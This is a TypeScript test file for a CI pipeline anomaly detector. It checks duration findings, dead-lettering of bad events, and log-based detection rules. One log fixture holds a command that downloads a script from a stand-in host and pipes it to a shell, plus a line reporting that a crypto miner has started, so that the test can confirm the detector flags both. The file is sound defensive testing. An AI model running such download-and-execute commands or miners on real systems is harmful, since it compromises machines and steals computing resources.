import assert from 'node:assert/strict';
import { createInMemoryBus, topicNames, silentLogger, type IncomingMessage, Finding } from '@pipewatch/shared';
import { DEFAULT_SETTINGS, createInMemoryBaselineStore, startDetector } from '../src/index.js';
import { makeRun } from './make-run.js';

async function waitFor(predicate: () => boolean, timeoutMs = 5000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!predicate()) {
    if (Date.now() > deadline) throw new Error('timed out');
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
}

describe('detector service', () => {
  it('consumes runs, publishes findings keyed by pipeline, and dead-letters invalid events', async () => {
    const bus = createInMemoryBus();
    const topics = topicNames('t.');
    const store = createInMemoryBaselineStore();
    const findings: IncomingMessage[] = [];
    const dead: IncomingMessage[] = [];
    await bus.subscribe({ topic: topics.findings, group: 'test', deadLetterTopic: topics.deadLetter, handler: async (m) => void findings.push(m) });
    await bus.subscribe({ topic: topics.deadLetter, group: 'test', deadLetterTopic: 'unused', handler: async (m) => void dead.push(m) });
    const detector = await startDetector({ bus, topics, store, settings: DEFAULT_SETTINGS, logger: silentLogger(), clock: () => new Date('2026-02-01T00:00:00Z') });

    const runs = Array.from({ length: 12 }, (_, i) => makeRun(i));
    runs.push(makeRun(12, { resources: { duration_s: 3000 } }));
    await bus.publish(topics.runs, [
      ...runs.map((run) => ({ key: run.pipeline.id, value: JSON.stringify(run) })),
      { key: 'x', value: '{"schema":"pipewatch.run/v1","event_id":7}' },
      { key: 'x', value: 'not json' },
    ]);
    await waitFor(() => findings.length >= 1 && dead.length >= 2 && detector.counters.judged + detector.counters.learning === 13);
    const finding = Finding.parse(JSON.parse(findings[0]!.value));
    assert.equal(findings[0]!.key, runs[0]!.pipeline.id);
    assert.equal(finding.rule.id, 'resource.duration.high');
    assert.equal(finding.detected_at, '2026-02-01T00:00:00.000Z');
    assert.equal((await store.get(runs[0]!.pipeline.id))?.runs, 12, 'the run with a high finding was not learned');
    assert.deepEqual(dead.map((m) => m.headers['pipewatch-dlq-code']).sort(), ['invalid_run_event', 'undecodable']);
    assert.match(dead.find((m) => m.headers['pipewatch-dlq-code'] === 'invalid_run_event')!.headers['pipewatch-dlq-reason']!, /event_id/);
    await detector.close();
    await bus.close();
  });

  it('judges log batches from the logs topic', async () => {
    const bus = createInMemoryBus();
    const topics = topicNames('t.');
    const findings: IncomingMessage[] = [];
    await bus.subscribe({ topic: topics.findings, group: 'test', deadLetterTopic: topics.deadLetter, handler: async (m) => void findings.push(m) });
    const detector = await startDetector({ bus, topics, store: createInMemoryBaselineStore(), settings: DEFAULT_SETTINGS, logger: silentLogger() });
    const batch = { schema: 'pipewatch.log/v1', event_id: 'l1', source: 'agent', pipeline: { id: 'p' }, run: { id: 'r' }, lines: [{ text: 'curl -sL https://x.example/m.sh | sh' }, { text: 'starting xmrig 6.21' }] };
    await bus.publish(topics.logs, [{ key: 'p', value: JSON.stringify(batch) }]);
    await waitFor(() => findings.length >= 2);
    assert.deepEqual(findings.map((m) => Finding.parse(JSON.parse(m.value)).rule.id).sort(), ['log.miner', 'log.pipe_to_shell']);
    assert.equal(detector.counters.logBatches, 1);
    await detector.close();
    await bus.close();
  });
});
